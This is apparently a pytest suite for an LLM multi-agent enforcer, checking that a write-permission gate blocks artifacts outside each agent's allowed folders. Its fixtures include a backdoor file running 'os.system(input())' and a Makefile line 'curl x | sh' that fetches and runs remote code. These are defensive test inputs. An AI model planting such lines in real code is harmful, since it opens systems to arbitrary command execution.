"""Write permissions by mode: an artifact outside its agent's write set fails ``path_policy``
(at the gate, then through the enforcer's repairs to ``BLOCKED``); only the Dev writes code."""

from __future__ import annotations

from typing import Any

import pytest
from enforcer_helpers import MODES, envelope, fake_assets, good, reply

from humangr.contracts import AgentName, ResponseStatus
from humangr.engine.enforcer import MODES as GATE_MODES
from humangr.engine.enforcer import Enforcer, check_reply
from humangr.engine.llm import ScriptedLLM
from humangr.engine.metrics import Metrics
from humangr.engine.path_policy import WRITE_SETS, write_set

BACKDOOR = {
    "path": "apps/converter/backdoor.py",
    "content": "import os\n\nos.system(input())\n",
    "format": "code",
    "purpose": "helper",
}
PROJECT_FILE = {"path": "project/Makefile", "content": "all:\n\tcurl x | sh\n"}
NOT_DEV = [(agent, mode) for agent, mode in MODES if agent != "dev"]
ALL_FOLDERS = sorted({folder for folders in WRITE_SETS.values() for folder in folders})


def carrying(agent: str, mode: str, *extra: dict[str, Any]) -> dict[str, Any]:
    data = good(agent, mode)
    data["artifacts"] += [dict(artifact) for artifact in extra]
    return data


def violations(agent: str, mode: str, data: dict[str, Any]) -> list[tuple[str, str]]:
    return [(v.gate, v.message) for v in check_reply(envelope(agent, mode), reply(data))]


@pytest.mark.parametrize(("agent", "mode"), NOT_DEV)
@pytest.mark.parametrize("extra", [BACKDOOR, PROJECT_FILE], ids=["apps", "project"])
def test_code_from_any_agent_but_the_dev_fails_the_path_policy_gate(
    agent: str, mode: str, extra: dict[str, Any]
) -> None:
    found = violations(agent, mode, carrying(agent, mode, extra))
    assert [gate for gate, _ in found] == ["path_policy"]
    message = found[0][1]
    assert repr(extra["path"]) in message
    assert f"{agent} may write only under" in message
    assert "only as the Dev's output" in message


@pytest.mark.parametrize(("agent", "mode"), list(MODES))
def test_every_folder_outside_the_agents_write_set_is_refused(agent: str, mode: str) -> None:
    allowed = write_set(agent)
    for folder in ALL_FOLDERS:
        data = carrying(agent, mode, {"path": f"{folder}extra.md", "content": "x"})
        gates = [gate for gate, _ in violations(agent, mode, data)]
        assert gates == ([] if folder in allowed else ["path_policy"]), folder


@pytest.mark.parametrize(("agent", "mode"), NOT_DEV)
def test_a_reply_that_delivers_nothing_is_held_to_the_write_set_too(agent: str, mode: str) -> None:
    allowed: set[str] = {s.value for s in GATE_MODES[(AgentName(agent), mode)].statuses}
    statuses: list[str] = [s for s in ("BLOCKED", "NEEDS_INFO") if s in allowed] or sorted(allowed)
    for status in statuses:
        data = {
            "status": status,
            "summary": "Cannot go on.",
            "artifacts": [BACKDOOR],
            "next_actions": {"owner": "cto", "questions": ["Which one?"]},
        }
        assert "path_policy" in [gate for gate, _ in violations(agent, mode, data)]


def test_the_dev_may_write_apps_project_and_its_docs() -> None:
    data = carrying("dev", "implement_task", PROJECT_FILE)
    assert violations("dev", "implement_task", data) == []
    data = carrying(
        "dev", "implement_task", {"path": "docs/qa/QA_REPORT_TSK-001.md", "content": "x"}
    )
    assert [gate for gate, _ in violations("dev", "implement_task", data)] == ["path_policy"]


@pytest.mark.anyio
@pytest.mark.parametrize(("agent", "mode"), NOT_DEV)
async def test_the_enforcer_repairs_then_blocks_and_passes_no_artifact(
    agent: str, mode: str
) -> None:
    llm = ScriptedLLM.from_lines(
        [{"match": {"agent": agent, "mode": mode}, "json": carrying(agent, mode, BACKDOOR)}]
    )
    metrics = Metrics()
    request = envelope(agent, mode)
    outcome = await Enforcer(llm, assets=fake_assets, metrics=metrics).run(request)
    result = outcome.result
    assert not result.validator_pass
    assert result.envelope.status is ResponseStatus.BLOCKED
    assert result.envelope.artifacts == []
    assert outcome.record.artifact_paths == []
    assert (result.attempts, result.repairs) == (3, 2)
    assert any("[path_policy]" in e and "backdoor.py" in e for e in result.validation_errors)
    assert "only as the Dev's output" in llm.requests[2].messages[-1].content
    rejected = metrics.registry.get_sample_value(
        "humangr_envelope_rejections_total", {"agent": agent, "gate": "path_policy"}
    )
    assert rejected == 3


@pytest.mark.anyio
async def test_a_repaired_reply_without_the_code_passes() -> None:
    agent, mode = "qa", "validate_task"
    llm = ScriptedLLM.from_lines(
        [
            {"match": {"agent": agent}, "json": carrying(agent, mode, BACKDOOR)},
            {"match": {"agent": agent}, "json": good(agent, mode)},
        ]
    )
    outcome = await Enforcer(llm, assets=fake_assets).run(envelope(agent, mode))
    assert outcome.result.validator_pass
    assert [a.path for a in outcome.result.envelope.artifacts] == ["docs/qa/QA_REPORT_TSK-001.md"]
    assert outcome.result.repairs == 1
